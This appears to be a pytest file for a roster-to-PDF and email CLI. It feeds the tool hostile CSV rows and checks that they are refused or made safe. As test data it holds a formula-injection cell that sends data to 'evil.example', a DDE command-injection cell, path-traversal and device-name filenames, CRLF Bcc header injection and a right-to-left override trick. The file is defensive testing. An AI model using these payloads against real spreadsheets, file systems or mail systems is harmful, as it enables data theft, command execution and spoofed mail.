"""A hostile roster: every trick gives a clear located error or safe output, and nothing is
ever written outside --out (or --outbox)."""

from __future__ import annotations

import email
import os
import re
from email import policy
from pathlib import Path

import pytest
from click.testing import CliRunner

from guidepdf.cli import main
from guidepdf.distribute import read_roster
from guidepdf.errors import RosterError
from tests.distribute.conftest import attachment_of, manifest_of, write_roster

HEADER = ("id", "name", "email", "role", "group")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
# Odd but acceptable rows: they must come out safely.
WEIRD = [
    ("h1", FORMULA, "h1@example.org", "coach", "+cmd|' /C calc'!A0"),
    ("../../h2", "../../etc/passwd", "h2@example.org", "teacher", "..\\..\\windows"),
    ("h3", "CON", "h3@example.org", "coach", "NUL"),
    ("h4", "Ali 😀🎉 Veli", "h4@example.org", "principal", "Team 🚀"),
    ("h5", "דנה לוי", "h5@example.org", "teacher", "בית ספר"),
    ("h6", "محمد الأحمد", "h6@example.org", "coach", ""),
    ("h7", 'Lee, "Ann" <ann>', "h7@example.org", "coach", "A;B,C"),
    ("h8", "Ann Lee", "h8@example.org", "coach", ""),
    ("h9", "Ann Lee", "h9@example.org", "coach", ""),
]
# Rows that must be refused, each with the problem expected for it.
BAD = [
    (("b1", "Eve\r\nBcc: all@example.org", "b1@example.org", "coach", ""),
     "name contains a line break (U+000D)"),
    (("b2", "x" * 2000, "b2@example.org", "coach", ""),
     "name is 2000 characters long (at most 200)"),
    (("b3", "Mallory", "H1@EXAMPLE.ORG", "coach", ""),
     "duplicate email 'H1@EXAMPLE.ORG' (also on line 2)"),
    (("b4", "Trudy\u202egnp.exe", "b4@example.org", "coach", ""),
     "name contains a control character (U+202E)"),
    (("b5", "Oscar", "o@example.org\r\nBcc: all@example.org", "coach", ""),
     "is not a single address"),
    (("h1", "Peggy", "b6@example.org", "coach", ""), "duplicate id 'h1' (also on line 2)"),
]


def files_under(root: Path) -> set[Path]:
    return {Path(dirpath, name) for dirpath, _, names in os.walk(root) for name in names}


def test_hostile_roster_gets_clear_errors_and_warnings(tmp_path: Path) -> None:
    """Every refused row is reported with its line and reason; odd rows only warn."""
    path = write_roster(tmp_path / "roster.csv", [*WEIRD, *(row for row, _ in BAD)])
    result = CliRunner().invoke(main, ["roster", "check", str(path)])
    assert result.exit_code == 2
    errors = [line for line in result.output.splitlines()
              if re.match(r"roster\.csv:\d+: (?!warning:)", line)]
    # the CRLF row spans two physical lines, so the rows after it are one line further
    lines_of_bad = [2 + len(WEIRD), 4 + len(WEIRD), 5 + len(WEIRD), 6 + len(WEIRD),
                    7 + len(WEIRD), 9 + len(WEIRD)]
    for (_, problem), line in zip(BAD, lines_of_bad, strict=True):
        assert any(e.startswith(f"roster.csv:{line}: ") and problem in e for e in errors), \
            (problem, line, errors)
    warnings = "\n".join(line for line in result.output.splitlines() if "warning:" in line)
    assert "roster.csv:2: warning: name '=HYPERLINK(" in warnings
    assert "roster.csv:5: warning: name has characters no font can draw" in warnings  # emoji
    # Hebrew and Arabic names are drawn (fallback fonts, right to left): nothing to warn about
    assert "roster.csv:6:" not in warnings and "roster.csv:7:" not in warnings
    assert f"{len(errors)} error(s) in" in result.output  # the CRLF email row has two


def test_refused_roster_writes_nothing(tmp_path: Path) -> None:
    """With errors in the roster, personalize and send write no file at all."""
    path = write_roster(tmp_path / "roster.csv", [*WEIRD, *(row for row, _ in BAD)])
    body = tmp_path / "body.txt"
    body.write_text("Hi $name", encoding="utf-8")
    before = files_under(tmp_path)
    runner = CliRunner()
    assert runner.invoke(main, ["personalize", "--roster", str(path), "--out",
                                str(tmp_path / "out")]).exit_code == 2
    assert runner.invoke(main, ["send", "--roster", str(path), "--from", "a@example.org",
                                "--subject", "s", "--body", str(body), "--outbox",
                                str(tmp_path / "box")]).exit_code == 2
    assert files_under(tmp_path) == before


def test_odd_names_give_safe_files_only_inside_out(tmp_path: Path) -> None:
    """Formula cells, traversal, device names, emoji, right-to-left and look-alike names
    become safe, unique files inside --out, whose manifests keep each name exactly."""
    work = tmp_path / "work"
    work.mkdir()
    path = write_roster(work / "roster.csv", WEIRD)
    out = work / "out"
    before = files_under(tmp_path)
    result = CliRunner().invoke(main, ["personalize", "--roster", str(path), "--out",
                                       str(out), "--prefill"])
    assert result.exit_code == 0, result.output
    created = files_under(tmp_path) - before
    assert created == files_under(out) and len(created) == len(WEIRD)
    names = sorted(p.name for p in created)
    assert "teacher-etc-passwd-h2.pdf" in names
    assert "coach-con-file-h3.pdf" in names
    assert "teacher-dnh-lvy-h5.pdf" in names  # Hebrew, transliterated
    assert len([n for n in names if n.startswith("coach-ann-lee-h")]) == 2
    for name in names:
        assert name.isascii() and "/" not in name and not name.startswith(".")
    by_id = {}
    for file in created:
        recipient = manifest_of(file.read_bytes())[0].recipient
        assert recipient is not None
        by_id[recipient.id] = recipient
    for pid, name, address, _, group in WEIRD:
        assert (by_id[pid].name, by_id[pid].email, by_id[pid].group) == (name, address, group)


def test_odd_names_make_well_formed_messages(tmp_path: Path) -> None:
    """In the .eml outbox every odd name is one encoded To header that decodes exactly,
    and no message has a header the template did not put there."""
    path = write_roster(tmp_path / "roster.csv", WEIRD)
    body = tmp_path / "body.txt"
    body.write_text("Hello $name from ${group}.\n", encoding="utf-8")
    box = tmp_path / "box"
    # group is empty for some rows: a placeholder empty for anyone is refused up front
    refused = CliRunner().invoke(main, ["send", "--roster", str(path), "--from",
                                        "a@example.org", "--subject", "For $name", "--body",
                                        str(body), "--outbox", str(box)])
    assert refused.exit_code == 2 and "placeholder $group is empty for 3 people" in \
        refused.output
    body.write_text("Hello $name.\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["send", "--roster", str(path), "--from",
                                       "a@example.org", "--subject", "For $name", "--body",
                                       str(body), "--outbox", str(box)])
    assert result.exit_code == 0, result.output
    seen = {}
    for file in box.iterdir():
        raw = file.read_bytes()
        assert raw.isascii()
        msg = email.message_from_bytes(raw, policy=policy.default)
        assert sorted(msg.keys()) == sorted(["From", "To", "Subject", "Date", "Message-ID",
                                             "X-Guidepdf-Recipient-Id", "MIME-Version",
                                             "Content-Type", "X-Unsent"])
        (to,) = msg["To"].addresses  # type: ignore[union-attr]
        seen[to.addr_spec] = (to.display_name, str(msg["Subject"]))
        _, _, pdf = attachment_of(msg)  # type: ignore[arg-type]
        assert manifest_of(pdf)[0].recipient.email == to.addr_spec  # type: ignore[union-attr]
    assert seen == {address: (name, f"For {name}") for _, name, address, _, _ in WEIRD}


def test_binary_and_nul_files_are_refused(tmp_path: Path) -> None:
    """A file with NUL bytes is not read as a roster."""
    path = tmp_path / "roster.csv"
    path.write_bytes(b"id,name,email,role\n1,A\x00B,a@x.org,coach\n")
    with pytest.raises(RosterError, match="NUL bytes"):
        read_roster(path)
